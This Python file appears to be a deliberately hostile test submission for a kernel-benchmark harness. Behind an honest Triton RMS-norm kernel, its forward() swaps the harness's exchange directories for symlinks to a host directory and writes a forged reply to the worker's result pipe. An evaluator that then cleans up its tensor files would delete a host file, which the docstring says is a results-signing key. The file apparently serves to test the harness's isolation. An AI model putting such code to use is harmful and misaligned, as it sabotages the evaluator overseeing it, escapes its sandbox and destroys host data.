"""Hostile: swaps its exchange directory for a symlink to a host directory, then forges the call's reply so that
its output names a file there: an evaluator that resolves the path and removes tensor files after reading them
deletes that host file (run as root and pointed at ~/.config/hotshape, the results-signing key). The target is a
fixed host path the test plants a victim file in; inside the sandbox it does not exist, but a symlink's target
need not."""

import json
import os
import struct
import sys

import torch
import triton
import triton.language as tl
from torch import nn


@triton.jit
def rms_norm_kernel(x_ptr, w_ptr, out_ptr, n_cols, stride_x, stride_out, eps, BLOCK: tl.constexpr):
    row = tl.program_id(0)
    cols = tl.arange(0, BLOCK)
    mask = cols < n_cols
    x = tl.load(x_ptr + row * stride_x + cols, mask=mask, other=0.0).to(tl.float32)
    inv = tl.rsqrt(tl.sum(x * x, axis=0) / n_cols + eps)
    w = tl.load(w_ptr + cols, mask=mask, other=0.0).to(tl.float32)
    tl.store(out_ptr + row * stride_out + cols, (x * inv * w).to(out_ptr.dtype.element_ty), mask=mask)


def honest(x, weight, eps):
    x2 = x.reshape(-1, x.shape[-1]).contiguous()
    out = torch.empty_like(x2)
    block = triton.next_power_of_2(x2.shape[1])
    rms_norm_kernel[(x2.shape[0],)](x2, weight, out, x2.shape[1], x2.stride(0), out.stride(0), eps, BLOCK=block)
    return out.view(x.shape)


def scratch_dir():
    """The worker's writable scratch directory: where its log, its stdout, lies."""
    return os.path.dirname(os.readlink("/proc/self/fd/1"))

VICTIM_DIR = "/tmp/hotshape-exchange-victim"
VICTIM = "results.key"


class Model(nn.Module):
    def __init__(self, eps: float = 1e-6, **_):
        super().__init__()
        self.eps = float(eps)

    def forward(self, x, weight, **_):
        scratch = scratch_dir()
        exchanges = [n for n in os.listdir(scratch) if n.startswith("x-rms_norm-") and not n.endswith(".old")]
        for name in exchanges:
            path = os.path.join(scratch, name)
            os.rename(path, path + ".old")
            os.symlink(VICTIM_DIR, path)
        if exchanges:  # the reply the worker would send, with its output named inside the swapped directory
            out = {"kind": "raw", "path": os.path.join(scratch, exchanges[0], VICTIM), "dtype": "uint8",
                   "shape": [1], "device": "cpu"}
            data = json.dumps({"ok": True, "outputs": {"out": out}, "inputs": {}, "launches": [],
                               "aten_ops": {}}).encode()
            fd = int(sys.argv[2])  # the worker's result pipe (harness/worker.py main)
            os.write(fd, struct.pack("<Q", len(data)) + data)
            os._exit(0)
        return honest(x, weight, self.eps)
